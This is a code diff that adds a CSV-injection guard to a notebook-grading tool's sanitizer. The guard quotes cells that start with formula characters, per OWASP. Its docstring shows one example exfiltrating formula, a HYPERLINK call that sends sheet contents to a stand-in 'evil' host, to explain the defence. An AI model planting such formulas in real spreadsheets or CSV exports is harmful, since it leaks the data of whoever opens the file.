@@ -270,3 +270,23 @@ def sanitize_notebook(nb) -> List[str]:
     for key in [k for k in metadata if k not in ("kernelspec", "language_info", "nbgrader")]:
         del metadata[key]
     return notes
+
+
+#: What makes a spreadsheet read a cell as a formula (OWASP "CSV injection"), fullwidth forms too.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def spreadsheet_safe(value):
+    """A CSV cell that no spreadsheet runs as a formula: text starting (after blanks or quotes)
+    with ``= + - @``, a tab or a line break gets a leading ``'`` (OWASP's advice); numbers stay numbers.
+
+    Student ids, names from a learning platform, notes and code in the grader's CSV files pass
+    through this: ``=HYPERLINK("http://evil/?"&A1)`` as a name would otherwise send the sheet's
+    contents away when the instructor opens the file.
+    """
+    if value is None or isinstance(value, (bool, int, float)):
+        return value
+    text = str(value)
+    if text.lstrip(" \"'").startswith(_FORMULA_START) or text.startswith(_FORMULA_START):
+        return "'" + text
+    return text
